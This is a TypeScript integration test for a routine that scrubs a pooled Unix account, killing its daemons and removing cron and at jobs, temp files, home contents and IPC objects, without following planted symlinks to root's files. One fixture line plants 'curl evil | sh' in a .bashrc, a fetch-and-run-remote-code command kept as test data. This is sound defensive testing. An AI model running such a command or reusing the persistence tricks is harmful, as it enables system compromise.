import { spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { lchown } from "node:fs/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileConfig } from "@ce/config";
import { lookupAccounts } from "@ce/mapping";
import { pino } from "pino";
import { TestAccounts } from "@ce/mapping/testing";
import { pidsOfUid } from "../src/contain/procs.js";
import { scrubAccount } from "../src/contain/scrub.js";
import { waitFor } from "@ce/testing";

// A pool account handed back dirty: a setsid daemon of its last holder, a
// crontab and an at job, files and a planted link in the shared temp dirs. The scrub leaves
// nothing of it, removes nothing of anyone else (the link's target stays), and answers a reason
// (the lease stays) when something cannot be removed.

const ROOT = TestAccounts.available();
const log = pino({ level: "silent" });

describe.skipIf(!ROOT)("scrubbing a pool account before its lease is released", () => {
  const accounts = new TestAccounts();
  let acct: string;
  let uid: number;
  let gid: number;
  let base: string;
  let tmpA: string;
  let tmpB: string;
  let cron: string;
  let at: string;
  let victim: string;
  let mq: string | undefined;
  /** SysV objects the test made: removed at the end whatever happened. */
  const cleanup: [string, string][] = [];
  const config = compileConfig({});

  beforeAll(async () => {
    acct = await accounts.add("sc");
    const a = (await lookupAccounts([acct])).get(acct)!;
    uid = a.uid;
    gid = a.gid;
    base = mkdtempSync(join(tmpdir(), "ce-scrub-"));
    spawnSync("chmod", ["755", base]);
    // Stand-ins for /tmp and /var/tmp (sticky, world-writable) and the cron/at spools.
    for (const d of ["tmpA", "tmpB", "cron", "at"]) mkdirSync(join(base, d), { mode: 0o1777 });
    [tmpA, tmpB, cron, at] = ["tmpA", "tmpB", "cron", "at"].map((d) => join(base, d)) as [string, string, string, string];
    spawnSync("chmod", ["1777", tmpA, tmpB]);
    victim = join(base, "victim");
    writeFileSync(victim, "root's\n");
  }, 60_000);
  afterAll(async () => {
    if (mq) spawnSync("umount", [mq]);
    for (const [opt, id] of cleanup) spawnSync("ipcrm", [opt, id]);
    spawnSync("chattr", ["-i", join(tmpB, "stuck")]);
    spawnSync("pkill", ["-KILL", "-u", acct]);
    await accounts.remove();
  });

  const as = (cmd: string) =>
    spawnSync("setpriv", [`--reuid=${uid}`, `--regid=${gid}`, "--clear-groups", "--", "sh", "-c", cmd], { encoding: "utf8", cwd: "/" });
  const opts = () => ({ config, log, tempDirs: [tmpA, tmpB], cronSpools: [cron], atSpools: [at], mqueueDir: mq ?? join(base, "no-mq") });

  it("ends the daemons, removes crontab, at jobs and temp files, follows no link", async () => {
    const m = `${400 + Math.floor(Math.random() * 100)}.${randomBytes(2).readUInt16BE(0)}`;
    // A double-forked setsid daemon that ignores TERM and HUP.
    spawn(
      "setpriv",
      [`--reuid=${uid}`, `--regid=${gid}`, "--clear-groups", "--", "setsid", "sh", "-c", `trap '' TERM HUP; sleep ${m} & sleep ${m}`],
      { detached: true, stdio: "ignore" },
    ).unref();
    expect(
      as(
        `echo mine > ${tmpA}/a.txt && mkdir -p ${tmpA}/d/e && echo x > ${tmpA}/d/e/f && ln -s ${victim} ${tmpA}/link && mkdir ${tmpA}/.X11 && chmod 1777 ${tmpA}/.X11`,
      ).status,
    ).toBe(0);
    // One level down in a world-writable directory of someone else.
    spawnSync("chown", ["root", join(tmpA, ".X11")]);
    expect(as(`echo y > ${tmpA}/.X11/sock && echo z > ${tmpB}/b`).status).toBe(0);
    writeFileSync(join(cron, acct), "* * * * * sleep 999\n");
    chownSync(join(cron, acct), uid, gid);
    writeFileSync(join(at, "a0001"), "#!/bin/sh\n");
    chownSync(join(at, "a0001"), uid, gid);
    writeFileSync(join(tmpA, "root-file"), "root's own\n");
    await lchown(join(tmpA, "root-file"), 0, 0);
    await waitFor("the account's processes running", async () => (await pidsOfUid(uid)).length >= 2, 10_000);

    expect(await scrubAccount(acct, opts())).toBeUndefined();

    expect(await pidsOfUid(uid)).toEqual([]);
    for (const p of ["a.txt", "d", "link", ".X11/sock"])
      expect(existsSync(join(tmpA, p)) || spawnSync("test", ["-L", join(tmpA, p)]).status === 0, p).toBe(false);
    expect(existsSync(join(tmpB, "b"))).toBe(false);
    expect(existsSync(join(cron, acct))).toBe(false);
    expect(existsSync(join(at, "a0001"))).toBe(false);
    // Nothing of anyone else: the link's target and root's files stay.
    expect(readFileSync(victim, "utf8")).toBe("root's\n");
    expect(existsSync(join(tmpA, "root-file"))).toBe(true);
    expect(existsSync(join(tmpA, ".X11"))).toBe(true);
  }, 60_000);

  it("answers a reason, and keeps the lease, while something of the account cannot be removed", async () => {
    expect(as(`echo stuck > ${tmpB}/stuck`).status).toBe(0);
    const immutable = spawnSync("chattr", ["+i", join(tmpB, "stuck")]).status === 0;
    if (!immutable) return; // a file system without attributes: nothing here can make a removal fail
    const why = await scrubAccount(acct, opts());
    expect(why).toMatch(/stuck/);
    spawnSync("chattr", ["-i", join(tmpB, "stuck")]);
    expect(await scrubAccount(acct, opts())).toBeUndefined();
    expect(existsSync(join(tmpB, "stuck"))).toBe(false);
  }, 60_000);

  it("empties the home directory by descriptor, removes the account's SysV IPC objects and POSIX queues, and nobody else's", async () => {
    const home = join(base, "home");
    mkdirSync(home, { mode: 0o755 });
    chownSync(home, uid, gid);
    for (let i = 0; spawnSync("usermod", ["-d", home, acct]).status !== 0; i++) {
      if (i > 50) throw new Error("usermod -d failed");
      await new Promise((r) => setTimeout(r, 100));
    }
    const rootDir = join(base, "rootdir");
    mkdirSync(rootDir, { mode: 0o755 });
    writeFileSync(join(rootDir, "keep"), "root's\n");
    // The last holder's leftovers: login files, a key, a deep tree, links to root's files and
    // directories, a directory it made unreadable, a FIFO, a home left world-writable.
    const made = as(
      [
        `cd ${home}`,
        "echo 'curl evil | sh' > .bashrc",
        "mkdir -p .ssh deep/a/b/c closed",
        "echo key > .ssh/authorized_keys",
        "echo x > deep/a/b/c/f",
        `ln -s ${victim} link`,
        `ln -s ${rootDir} dirlink`,
        "echo s > closed/secret && chmod 000 closed",
        "mkfifo pipe",
        "chmod 777 .",
      ].join(" && "),
    );
    expect(made.status, made.stderr).toBe(0);
    // SysV objects of the account, and one of root that must stay.
    const idOf = (out: string) => /id:\s*(\d+)/.exec(out)?.[1];
    const mine = { "-q": idOf(as("ipcmk -Q").stdout), "-m": idOf(as("ipcmk -M 4096").stdout), "-s": idOf(as("ipcmk -S 2").stdout) };
    expect(Object.values(mine).every(Boolean), JSON.stringify(mine)).toBe(true);
    for (const [opt, id] of Object.entries(mine)) cleanup.push([opt, id!]); // should the scrub fail
    const rootQ = idOf(spawnSync("ipcmk", ["-Q"], { encoding: "utf8" }).stdout);
    if (rootQ) cleanup.push(["-q", rootQ]);
    // POSIX message queues, through a mount of the mqueue file system of our own.
    const mnt = join(base, "mq");
    mkdirSync(mnt);
    if (spawnSync("mount", ["-t", "mqueue", "none", mnt]).status === 0) mq = mnt;
    const qName = `ce-scrub-${randomBytes(4).toString("hex")}`;
    if (mq) {
      expect(as(`touch ${mq}/${qName}`).status).toBe(0);
      writeFileSync(join(mq, `${qName}-root`), "");
    }

    expect(await scrubAccount(acct, opts())).toBeUndefined();

    expect(spawnSync("ls", ["-A", home], { encoding: "utf8" }).stdout.trim()).toBe("");
    expect(spawnSync("stat", ["-c", "%a %u", home], { encoding: "utf8" }).stdout.trim()).toBe(`700 ${uid}`);
    expect(readFileSync(victim, "utf8")).toBe("root's\n");
    expect(readFileSync(join(rootDir, "keep"), "utf8")).toBe("root's\n");
    // The kernel's tables: the account's ids are gone, root's queue is still there.
    const ids = (table: string) =>
      readFileSync(`/proc/sysvipc/${table}`, "utf8")
        .split("\n")
        .slice(1)
        .map((l) => l.trim().split(/\s+/)[1]);
    const table = { "-q": "msg", "-m": "shm", "-s": "sem" } as const;
    for (const [opt, id] of Object.entries(mine)) expect(ids(table[opt as keyof typeof table]), `${opt} ${id}`).not.toContain(id);
    if (rootQ) expect(ids("msg")).toContain(rootQ);
    if (mq) {
      expect(existsSync(join(mq, qName))).toBe(false);
      expect(existsSync(join(mq, `${qName}-root`))).toBe(true);
      spawnSync("rm", [join(mq, `${qName}-root`)]);
    }
  }, 60_000);
});
